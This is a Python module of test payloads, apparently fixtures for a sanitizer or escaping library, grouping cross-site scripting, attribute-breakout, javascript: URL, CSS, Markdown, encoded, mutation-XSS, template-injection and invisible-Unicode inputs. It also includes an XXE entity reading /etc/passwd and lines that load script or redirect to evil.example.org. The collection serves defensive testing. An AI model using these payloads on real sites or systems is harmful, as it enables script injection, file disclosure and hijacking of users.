"""Texts that would like to be more than text, by the context that each aims at."""

from __future__ import annotations

FIRST = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example.org/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=`alert(1)` `",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href='//evil.example.org/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example.org'>",
    "<form action=//evil.example.org><button>x</button></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#62;alert(1)",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
    "%(who)s %s {0} {x} $x ${x} \\x3cscript\\x3e",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>",
)
TAGS = (
    "<script src=data:,alert(1)></script>", "<script/x>alert(1)</script/x>", "<<script>alert(1)//<</script>",
    "<object data='javascript:alert(1)'></object>", "<embed src='javascript:alert(1)'>", "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>", "<link rel=stylesheet href=//evil.example.org/x.css>",
    "</main></body></html><script>alert(1)</script>", "<plaintext>", "<xmp><img src=x onerror=alert(1)></xmp>",
)
ATTRIBUTES = (
    '"/onclick=alert(1) x="', '" style="animation-name:x" onanimationstart="alert(1)', '" srcdoc="<script>alert(1)</script>', '" formaction="javascript:alert(1)',
    '" autofocus tabindex=0 onfocus=alert(1) "', '" ping="//evil.example.org', '" http-equiv="refresh" content="0;url=//evil.example.org', "\\\" onclick=alert(1) \\\"",
    '"><a href="javascript:alert(1)',
)
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript&colon;alert(1)", "&#x6A;avascript:alert(1)", "javascript://example.org/%0Aalert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "//evil.example.org/x", "https://example.org/?a=1&lt=2&gt;3",
)
STYLES = (
    "<style>@import '//evil.example.org/x.css'</style>", "</style><style>*{background:url(//evil.example.org)}", "x;background:url(javascript:alert(1))",
    "}*{color:red}", "*/body{display:none}/*",
)
DATA = (        # where JSON stands in a page
    "</script>", "<!--<script>", "<!--", "\\u003c/script\\u003e<script>alert(1)</script>", '"}]}</script><script>alert(1)</script>', '","@type":"Person","name":"x', "\\", "\\\\u2028", "]}}",
)
COMMONMARK = (
    "[x](javascript:alert(1))", "![x](x \"onerror=alert(1)\")", "[x]: javascript:alert(1)", "`</code><script>alert(1)</script>`", "```html <script>alert(1)</script>", "# <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>", "[<img src=x onerror=alert(1)>](https://example.org)",
)
ENCODINGS = (
    "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\\x3cscript\\x3ealert(1)", "&#0000060script&#0000062alert(1)", "&amp;lt;script&amp;gt;alert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02bbonclick=alert(1)\u02bb", "&lt&gt&quot&apos",
)
MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<math><mi><table><mglyph><style><img title='</style><img src onerror=alert(1)>'>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<a id=x tabindex=1 onbeforeinput=alert(1)></a><x>",
)
TEMPLATES = ("{{ ''.__class__.__mro__ }}", "{% import os %}{{ os }}", "${7*7}", "%(name)s", "{0.__class__}", "*{7*7}")
UNSEEN = (
    "x\u200e<script>alert(1)</script>\u200f", "\u061conclick=alert(1)", "<\u200dscript>", "a\u00adb\u180e<b>", "j\u200cavascript:alert(1)", "\u3164<img src=x onerror=alert(1)>",
)
PAYLOADS = tuple(dict.fromkeys((*FIRST, *TAGS, *ATTRIBUTES, *ADDRESSES, *STYLES, *DATA, *COMMONMARK, *ENCODINGS, *MUTATIONS, *TEMPLATES, *UNSEEN)))
# Signs that turn text round, end a line or have no width are refused wherever they stand.
REFUSED = (
    "a\u202egnp.<script>alert(1)</script>", "a\u200b<img src=x onerror=alert(1)>", "a\u2066b\u2069\u202a<svg onload=alert(1)>\u202c", "java\u200bscript:alert(1)", "a\ufeff<script>alert(1)</script>", "x\u2060onclick=alert(1)", "x\u2028alert(1)\u2029x",
)
